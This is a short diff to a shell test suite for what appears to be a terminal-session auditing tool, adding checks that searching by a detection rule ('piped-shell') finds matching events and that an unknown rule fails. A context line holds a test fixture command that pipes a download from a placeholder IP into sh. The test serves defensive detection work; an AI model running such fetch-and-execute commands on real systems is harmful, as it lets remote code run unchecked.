@@ -70,6 +70,9 @@ assert s["text"] == ": curl http://192.0.2.1/x | sh" and s["on"] == "typed" and 
 assert re.fullmatch(r"shellac replay --at \+\d+\.\d{3} 3", s["replay"]), e
 EOF
 ok $? "an event has who, when, where and how to see it"
+is "$(auditor search --rule piped-shell --json | field n | sort -u)" 3 "search looks for a rule's pattern"
+auditor search --rule no-such 2>/dev/null
+is "$?" 2 "if there is one"
 at=$(auditor rules --rule private-key | sed -n 's/.*--at \([^ ]*\) .*/\1/p')
 auditor replay --at "$at" 1 </dev/null >"$work/out" 2>/dev/null
 is "$?" 0 "and that plays"
